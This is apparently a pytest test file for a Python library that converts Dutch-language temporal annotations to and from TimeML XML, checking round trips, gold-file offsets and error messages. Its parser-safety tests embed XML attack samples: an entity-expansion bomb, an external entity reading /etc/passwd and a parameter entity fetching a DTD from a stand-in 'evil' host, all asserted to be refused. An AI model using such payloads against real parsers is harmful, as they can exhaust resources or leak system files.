"""Reading TimeML: our own output comes back whole, gold files from elsewhere are read with
their offsets, and unsafe or broken XML is refused with a clear error."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import timeline
from timeline import EventClass, TimexType
from timeline.model import Relation
from timeline.output import document_to_timeml
from timeline.output.timeml import TimeMLError, parse_timeml, read_timeml

from .strategies import dcts

SUBJECTS = ["Spicer", "Het kabinet", "De minister", "Zij", "De Kamer"]
VERBS = ["zei", "beslist", "stemde", "dreigde", "legde de sancties op", "vertrekt", "heeft gezegd", "won"]
TIMES = ["donderdag", "vorige week", "op 3 februari 2017", "in december", "dit weekend", "twee dagen later",
         "de afgelopen week", "om 15.30 uur", "elke maandag", "", "drie jaar", "morgen", "tot eind maart"]
CLAUSE = st.builds(lambda s, v, t: f"{s} {v} {t}".strip(), st.sampled_from(SUBJECTS), st.sampled_from(VERBS),
                   st.sampled_from(TIMES))
JOINS = ["dat", "nadat", "voordat", "terwijl", "omdat", "toen"]
SENTENCE = st.builds(lambda a, j, b: f"{a} {j} {b[0].lower()}{b[1:]}." if b else f"{a}.", CLAUSE,
                     st.sampled_from(JOINS), st.one_of(st.just(""), CLAUSE))
ON_THEIR_OWN = ["Daarna vertrok hij.", "Intussen sliep zij.", "Hij zou komen als het kon.", "Toen viel het dak in."]
TEXTS = st.lists(st.one_of(SENTENCE, st.sampled_from(ON_THEIR_OWN)), min_size=1, max_size=6).map(
    lambda xs: " ".join(xs) + '\r\n<&> "\x85"')


def overlaps(a: timeline.Span, b: timeline.Span) -> bool:
    return a.start < b.end and b.start < a.end


@given(TEXTS, dcts)
def test_to_timeml_then_parse_timeml_gives_back_expressions_events_and_links(text: str, dct: object) -> None:
    doc = timeline.analyze(text, dct=dct)  # type: ignore[arg-type]
    back = parse_timeml(document_to_timeml(doc, doc_id="doc-1"))
    assert (back.doc_id, back.dct, back.text) == ("doc-1", doc.dct, doc.text)
    assert back.dct_timex is not None and back.dct_timex.value == doc.dct.isoformat()

    # Time expressions: every one that overlaps no earlier one is tagged, with its value.
    placed = [t for k, t in enumerate(doc.timexes) if not any(overlaps(t.span, u.span) for u in doc.timexes[:k])]
    assert [(t.span, t.text, t.type, t.value, t.mod) for t in back.timexes] == \
           [(t.span, t.text, t.type, t.value, None if t.mod is None else t.mod.value) for t in placed]
    tid = {t.span: t.tid for t in back.timexes}

    # Events: one instance each, in the document's order, with their grammar.
    assert len(back.events) == len(doc.events)
    for k, (event, read) in enumerate(zip(doc.events, back.events, strict=True), 1):
        assert (read.eid, read.eiid) == (f"e{k}", f"ei{k}")
        assert (read.tense, read.aspect, read.polarity, read.pos) == (
            "NONE" if event.tense is None else event.tense.name, event.aspect.value, event.polarity.value,
            "NOUN" if event.nominal else "VERB")
        if read.span is not None:
            assert (read.span, read.text, read.cls) == (event.span, event.text, event.cls)
        else:  # left untagged only where a tag would overlap another
            assert any(overlaps(event.span, t.span) for t in doc.timexes) or \
                   any(overlaps(event.span, e.span) for e in doc.events[:k - 1])

    # Links: each event to the expression that dates it, and BEFORE only where it holds.
    anchors = {(link.source, link.target, link.rel) for link in back.links if link.target in tid.values()}
    want = {(f"ei{k}", tid[e.timex.span], "DURING" if e.timex.type is TimexType.DURATION else "IS_INCLUDED")
            for k, e in enumerate(doc.events, 1) if e.timex is not None and e.timex.span in tid}
    assert anchors == want
    for link in back.event_links():
        if link.syntax is None:
            assert link.rel == "BEFORE"
            a, b = (doc.events[int(x[2:]) - 1] for x in (link.source, link.target))
            ra, rb = (doc.ranks[int(x[2:]) - 1] for x in (link.source, link.target))
            assert ra is not None and rb is not None and ra < rb
            assert a.interval is not None and b.interval is not None and a.interval.end <= b.interval.start

    # Every event's relation to the DCT, and the links the text gives, with their cue words.
    assert back.dct_relations() == {f"ei{k}": e.dct_relation for k, e in enumerate(doc.events, 1)
                                    if e.dct_relation is not Relation.VAGUE}
    cued = [link for link in back.event_links() if link.syntax is not None]
    assert [(x.source, x.target, x.relation, x.syntax) for x in cued] == \
           [(f"ei{x.source + 1}", f"ei{x.target + 1}", x.relation, x.cue) for x in doc.links]
    signals = {s.sid: s for s in back.signals}
    for read, link in zip(cued, doc.links, strict=True):
        if read.signal is not None:
            assert link.span is not None and signals[read.signal].span == link.span
            assert signals[read.signal].text == doc.text[link.span.start:link.span.end]
        else:  # no tag where the cue word lies inside another
            assert link.span is None or any(overlaps(link.span, t.span) for t in doc.timexes) or \
                   any(overlaps(link.span, e.span) for e in doc.events)


def test_an_event_without_a_tag_comes_back_as_an_instance_without_a_span() -> None:
    xml = ('<TimeML><TEXT>Zij zei het.</TEXT>'
           '<MAKEINSTANCE eiid="ei1" eventID="e1" tense="PAST" aspect="NONE" polarity="POS" pos="VERB"/></TimeML>')
    (event,) = parse_timeml(xml).events
    assert (event.eiid, event.span, event.cls, event.tense) == ("ei1", None, None, "PAST")


GOLD = """<?xml version="1.0" encoding="ISO-8859-1"?>
<TimeML xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
        xsi:noNamespaceSchemaLocation="http://timeml.org/timeMLdocs/TimeML_1.2.1.xsd">
<DOCID>nl-001</DOCID>
<DCT><TIMEX3 tid="t0" type="DATE" value="2017-02-02T10:00" temporalFunction="false"
 functionInDocument="CREATION_TIME">2 februari 2017</TIMEX3></DCT>
<TITLE>Caf\xe9 dicht</TITLE>
<TEXT>Het caf\xe9 <EVENT eid="e1" class="OCCURRENCE">sloot</EVENT> <SIGNAL sid="s1">op</SIGNAL> <TIMEX3 tid="t1"
 type="DATE" value="2017-02-02">donderdag</TIMEX3>, <EVENT eid="e2" class="REPORTING">meldde</EVENT> de
 <ENAMEX>politie</ENAMEX> <TIMEX3 tid="t2" type="DURATION" value="P1W" mod="APPROX">ruim een week</TIMEX3> later.</TEXT>
<MAKEINSTANCE eventID="e1" eiid="ei1" tense="PAST" aspect="NONE" polarity="POS" pos="VERB"/>
<MAKEINSTANCE eventID="e2" eiid="ei2" tense="PAST" aspect="NONE" polarity="POS" pos="VERB"/>
<TLINK lid="l1" relType="IS_INCLUDED" eventInstanceID="ei1" relatedToTime="t1"/>
<TLINK lid="l2" relType="BEFORE" timeID="t1" relatedToTime="t0"/>
<TLINK lid="l3" relType="AFTER" timeID="t0" relatedToEventInstance="ei2" signalID="s1" syntax="tense"/>
<TLINK lid="l4" relType="IBEFORE" eventInstanceID="ei1" relatedToEventInstance="ei2"/>
</TimeML>
""".encode("latin-1")


def test_a_gold_file_from_elsewhere_is_read_with_its_offsets(tmp_path: Path) -> None:
    path = tmp_path / "nl-001.tml"
    path.write_bytes(GOLD)
    doc = read_timeml(path)
    assert (doc.doc_id, doc.dct) == ("nl-001", timeline.analyze("x", dct="2017-02-02").dct)
    for t in doc.timexes:
        assert t.span is not None and doc.text[t.span.start:t.span.end] == t.text
    assert [(t.tid, t.text, t.type, t.value, t.mod) for t in doc.timexes] == [
        ("t1", "donderdag", TimexType.DATE, "2017-02-02", None),
        ("t2", "ruim een week", TimexType.DURATION, "P1W", "APPROX")]
    assert [(e.eiid, e.text, e.cls) for e in doc.events] == [("ei1", "sloot", EventClass.OCCURRENCE),
                                                            ("ei2", "meldde", EventClass.REPORTING)]
    assert doc.text.startswith("Het café sloot op donderdag, meldde de")
    assert [(x.source, x.rel, x.target) for x in doc.links] == [("ei1", "IS_INCLUDED", "t1"), ("t1", "BEFORE", "t0"),
                                                                ("t0", "AFTER", "ei2"), ("ei1", "IBEFORE", "ei2")]
    (op,) = doc.signals
    assert (op.sid, op.text, doc.text[op.span.start:op.span.end]) == ("s1", "op", "op")
    assert doc.dct_relations() == {"ei2": Relation.BEFORE}, "t0 AFTER ei2, read the other way round"
    assert [(x.lid, x.relation, x.syntax, x.signal) for x in doc.event_links()] == [("l4", Relation.BEFORE, None, None)]
    assert doc.links[2].syntax == "tense" and doc.links[2].signal == "s1"


BOMB = """<?xml version="1.0"?>
<!DOCTYPE TimeML [
 <!ENTITY a "aaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
]>
<TimeML><TEXT>&d;</TEXT></TimeML>"""
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE TimeML [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<TimeML><TEXT>&secret;</TEXT></TimeML>"""
PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE TimeML [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<TimeML><TEXT>x</TEXT></TimeML>"""


@pytest.mark.parametrize("xml", [BOMB, EXTERNAL, PARAMETER], ids=["expansion-bomb", "external-entity",
                                                                  "external-parameter-entity"])
def test_entities_are_refused_never_expanded_or_fetched(xml: str) -> None:
    with pytest.raises(TimeMLError, match="refused unsafe XML"):
        parse_timeml(xml)


@pytest.mark.parametrize(("xml", "message"), [
    ("<TimeML><TEXT>x</TEXT>", "line 1, column 23"),
    ("", "line 1, column 1"),
    ("<TEI><TEXT>x</TEXT></TEI>", "<TEI>, not <TimeML>"),
    ("<TimeML><DOCID>x</DOCID></TimeML>", "no <TEXT>"),
    ('<TimeML><TEXT><TIMEX3 tid="t1" type="DAY" value="2017">x</TIMEX3></TEXT></TimeML>', "unknown type 'DAY'"),
    ('<TimeML><TEXT><TIMEX3 type="DATE" value="2017">x</TIMEX3></TEXT></TimeML>', "without the tid"),
    ('<TimeML><TEXT><EVENT eid="e1" class="HAPPENING">x</EVENT></TEXT></TimeML>', "unknown class 'HAPPENING'"),
    ('<TimeML><TEXT>x</TEXT><TLINK lid="l1" relType="BEFORE" eventInstanceID="ei1"/></TimeML>', "'l1' lacks"),
    ('<TimeML><DCT><TIMEX3 tid="t0" type="DATE" value="gisteren">x</TIMEX3></DCT><TEXT>x</TEXT></TimeML>',
     "DCT value 'gisteren'"),
    ('<?xml version="1.0" encoding="klingon"?><TimeML><TEXT>x</TEXT></TimeML>', "cannot decode"),
])
def test_broken_timeml_is_a_clear_error(xml: str, message: str) -> None:
    with pytest.raises(TimeMLError, match=message):
        parse_timeml(xml.encode("utf-8"))


def test_deep_nesting_is_a_clear_error() -> None:
    with pytest.raises(TimeMLError, match="nested too deeply"):
        parse_timeml("<TimeML><TEXT>" + "<x>" * 5000 + "</x>" * 5000 + "</TEXT></TimeML>")


def test_a_file_that_cannot_be_read_names_its_path(tmp_path: Path) -> None:
    with pytest.raises(TimeMLError, match="nope.tml: cannot read"):
        read_timeml(tmp_path / "nope.tml")
    broken = tmp_path / "broken.tml"
    broken.write_bytes(b"<TimeML><TEXT>")
    with pytest.raises(TimeMLError, match=r"broken.tml: not well-formed XML at line 1"):
        read_timeml(broken)


def test_timeml_errors_are_value_errors() -> None:
    assert issubclass(TimeMLError, ValueError)
    with pytest.raises(TimeMLError, match="str or bytes"):
        parse_timeml(42)  # type: ignore[arg-type]
